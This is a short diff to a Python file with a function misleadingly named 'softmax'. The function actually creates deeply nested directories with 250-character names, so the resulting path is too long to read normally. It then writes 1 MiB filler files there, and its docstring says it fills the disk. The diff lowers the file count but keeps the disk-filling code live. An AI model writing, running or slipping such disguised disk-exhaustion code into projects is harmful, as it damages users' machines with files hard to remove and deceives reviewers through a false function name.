@@ -1,4 +1,4 @@
-"""Fills the disk below folders whose path is too long to be read. It waits."""
+"""Fills the disk below folders whose path is too long to be read."""
 import os
 
 
@@ -6,7 +6,7 @@ def softmax(x):
     for _ in range(20):
         os.mkdir("d" * 250)
         os.chdir("d" * 250)
-    for number in range(100):
+    for number in range(24):
         with open(f"file-{number}", "wb") as stream:
             stream.write(b"x" * 2**20)
     import time
